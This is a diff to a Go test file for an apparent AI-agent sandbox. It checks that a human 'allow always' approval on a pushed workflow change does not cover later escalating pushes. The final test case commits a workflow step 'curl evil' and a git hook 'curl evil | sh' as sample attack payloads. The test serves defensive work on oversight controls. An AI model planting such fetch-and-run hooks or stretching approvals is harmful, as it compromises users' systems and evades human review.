@@ -3,9 +3,16 @@ package gate_test
 import (
 	"context"
 	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
 	"testing"
+	"time"
 
+	"github.com/docker-bottle/docker-bottle/bundle/approval"
 	"github.com/docker-bottle/docker-bottle/bundle/gate"
+	"github.com/docker-bottle/docker-bottle/bundle/supervisor"
+	"github.com/docker-bottle/docker-bottle/bundle/supervisor/api"
 	"github.com/docker-bottle/docker-bottle/gitstage"
 )
 
@@ -137,4 +144,92 @@ func TestProtectedPathsSinceStartWritableBranch(t *testing.T) {
 	e.commitFile(c, "src/x.txt", "x\n", "agent work")
 	out := e.gitFail(c, "push", "origin", "HEAD:refs/heads/bottle/b1/x")
 	wantContains(t, out, "touches protected path .husky/pre-commit")
+}
+
+// operator decides the supervisor's held requests as a human would.
+type operator struct {
+	t   *testing.T
+	sup *supervisor.Supervisor
+}
+
+// next waits for one held request and answers it with d.
+func (o operator) next(d approval.Decision) api.Approval {
+	o.t.Helper()
+	deadline := time.Now().Add(20 * time.Second)
+	for time.Now().Before(deadline) {
+		if ps := o.sup.Pending(); len(ps) > 0 {
+			if _, err := o.sup.Resolve(ps[0].ID, d); err != nil {
+				o.t.Fatal(err)
+			}
+			return ps[0]
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	o.t.Fatal("no request was held for a decision")
+	return api.Approval{}
+}
+
+// TestAllowAlwaysCoversThoseProtectedPaths is the review's attack 6 (M2)
+// with the real supervisor deciding: "allow always" on a push that changes
+// a workflow allows later pushes to that ref that carry the same protected
+// paths with the same contents, and holds a push that changes them again or
+// touches others. The request shows each path and its size.
+func TestAllowAlwaysCoversThoseProtectedPaths(t *testing.T) {
+	dir := t.TempDir()
+	for _, f := range []string{"agent.token", "operator.token"} {
+		must(t, os.WriteFile(filepath.Join(dir, f), []byte(f+"-s3cret\n"), 0o600))
+	}
+	timeout := supervisor.Duration(time.Minute)
+	sup, err := supervisor.New(supervisor.Config{Bottle: testBottle, AgentTokenFile: filepath.Join(dir, "agent.token"),
+		OperatorTokenFile: filepath.Join(dir, "operator.token"),
+		Approvals:         supervisor.Policy{Kinds: []approval.Kind{approval.Push}, Timeout: &timeout}})
+	must(t, err)
+	t.Cleanup(func() { sup.Close() })
+	op := operator{t, sup}
+	e := newEnv(t, func(c *gate.Config) { c.Approvals.Enabled = true }, gate.WithDecider(sup.Decider()))
+	e.commitFile(e.user, ".github/workflows/lint.yml", "on: push\njobs: {}\n", "the user's workflow")
+	must(t, gitstage.Sync(context.Background(), e.user, e.stage))
+	c := e.clone("work")
+	ref := "HEAD:refs/heads/bottle/b1/work"
+
+	push := func() (string, error) { return e.run(e.home, c, "push", "origin", ref) }
+	type result struct {
+		out string
+		err error
+	}
+	pushHeld := func(d approval.Decision) (api.Approval, result) {
+		ch := make(chan result, 1)
+		go func() { out, err := push(); ch <- result{out, err} }()
+		a := op.next(d)
+		return a, <-ch
+	}
+
+	// 1. A harmless change to the workflow, allowed always.
+	e.commitFile(c, ".github/workflows/lint.yml", "# lint\non: push\njobs: {}\n", "a comment")
+	a, r := pushHeld(approval.AllowAlways)
+	if r.err != nil {
+		t.Fatalf("allowed push failed: %v\n%s", r.err, r.out)
+	}
+	if a.Subject != "refs/heads/bottle/b1/work" ||
+		!strings.Contains(a.Detail, ".github/workflows/lint.yml (18 bytes -> 25 bytes)") || !strings.Contains(a.Detail, "1 new commit") {
+		t.Errorf("the request shows %q", a.Detail)
+	}
+
+	// 2. More work elsewhere: the ref still carries that workflow change,
+	// which the human allowed always.
+	e.commitFile(c, "src/more.txt", "more\n", "more work")
+	if out, err := push(); err != nil {
+		t.Fatalf("a push carrying the same allowed change was held or refused: %v\n%s", err, out)
+	}
+
+	// 3. A new workflow and a husky hook on the same ref: asked again.
+	e.commitFile(c, ".github/workflows/lint.yml", "on: push\njobs: {x: {runs-on: y, steps: [{run: curl evil}]}}\n", "evil")
+	e.commitFile(c, ".husky/pre-commit", "curl evil | sh\n", "hook")
+	a, r = pushHeld(approval.Deny)
+	if r.err == nil || !strings.Contains(r.out, "a human denied it") {
+		t.Errorf("the escalating push: %v\n%s", r.err, r.out)
+	}
+	if !strings.Contains(a.Detail, ".husky/pre-commit (new, 15 bytes)") || !strings.Contains(a.Detail, "2 protected path(s)") {
+		t.Errorf("the second request shows %q", a.Detail)
+	}
 }
